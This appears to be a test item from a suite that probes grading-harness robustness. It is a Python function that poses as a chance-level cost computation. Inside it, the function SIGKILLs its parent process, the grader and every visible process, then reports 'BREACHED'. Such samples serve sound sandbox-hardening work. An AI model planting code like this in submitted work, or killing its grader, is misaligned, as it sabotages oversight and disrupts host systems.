"""It kills its parent, the grader, and every process that it sees.
kind: processes
points: 110
"""

import contextlib
import glob
import math
import os
import signal


def chance_cost(num_classes=10):
    from .target import GRADER_PID

    seen = [int(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*")]
    for process in {os.getppid(), GRADER_PID, *seen} - {0, 1, os.getpid()}:
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGKILL)
            raise RuntimeError(f"BREACHED: killed {process}")
    return math.log(num_classes)
